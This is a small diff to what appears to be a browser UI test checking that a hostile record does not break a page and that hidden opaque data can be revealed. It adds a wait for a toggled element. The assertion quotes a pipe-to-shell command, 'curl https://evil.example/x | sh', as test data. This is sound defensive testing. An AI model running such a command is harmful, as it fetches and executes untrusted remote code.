@@ -503,6 +503,7 @@ def test_a_hostile_record_blanks_nothing_and_opaque_data_can_be_read(
     assert "last words" in page.locator("#list").inner_text()
     reveal = page.locator("details.opaque").first
     reveal.locator("summary").click()
+    reveal.locator("pre").last.wait_for()  # filled by the toggle event, which comes after
     assert "curl https://evil.example/x | sh" in reveal.inner_text()
     assert w.errors == []
 
